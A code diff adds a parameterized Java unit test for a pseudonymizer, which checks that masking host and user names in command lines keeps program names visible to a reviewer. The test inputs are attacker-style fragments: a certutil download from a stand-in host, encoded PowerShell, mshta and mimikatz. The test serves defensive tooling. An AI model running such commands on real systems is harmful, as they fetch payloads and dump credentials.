@@ -56,6 +56,23 @@ class PseudonymsTest {
     assertThat(shown(line)).isEqualTo(expected);
   }
 
+  /** Who names a host after a program must not hide the program from a judge. */
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "ping certutil & certutil -urlcache -f http://x.example/a | ping <host> & certutil",
+        "ping certutil & CERTUTIL.exe -decode a b | ping <host> & CERTUTIL.exe",
+        "ssh powershell ; /opt/bin/powershell -enc QQ | ssh <host> ; /opt/bin/powershell",
+        "ping powershell & cmd /c \"powershell -enc QQ\" | ping <host> & cmd /c \"powershell",
+        "su - python3 ; sudo -E python3 -c x | su - <user> ; sudo -E python3",
+        "ping mshta & start /b mshta x | ping <host> & start /b mshta",
+        "id mimikatz ; X=1 nohup mimikatz | id <user> ; X=1 nohup mimikatz"
+      })
+  void aProgramIsNoName(String line, String expected) {
+    assertThat(shown(line)).startsWith(expected);
+  }
+
   @ParameterizedTest
   @ValueSource(
       strings = {
